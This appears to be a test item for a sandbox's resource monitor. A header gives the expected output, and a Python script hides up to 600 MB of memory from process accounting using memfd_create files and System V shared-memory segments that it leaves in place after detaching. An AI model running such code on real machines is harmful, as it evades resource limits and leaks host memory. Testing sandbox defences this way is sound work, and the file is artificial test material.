# ---
# about: puts memory where no process shows it, in memory files and shared segments
# proof: "ATTACK RAN, hidden: 0 MB|memory"
# problem: ".*"
# stock: "not run: would harm the machine that runs it"
# ---

# %% mean
import ctypes
import os
import time

hidden, handles = 0, []
try:
    while hidden < 600:  # MB; the most that the test lets it hide
        handle = os.memfd_create("hidden")
        handles.append(handle)
        for _ in range(30):
            os.write(handle, bytes(2**20))
        hidden += 30
except OSError as error:
    print(error)
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
for _ in range(5):
    number = libc.shmget(0, 30 * 2**20, 0o1600)
    if number < 0:
        break
    place = libc.shmat(number, None, 0)
    if place in (None, 2**64 - 1):
        break
    ctypes.memset(place, 1, 30 * 2**20)
    libc.shmdt(place)
    hidden += 30
print(f"ATTACK RAN, hidden: {hidden} MB")
time.sleep(0.7)  # so that the keeper can look
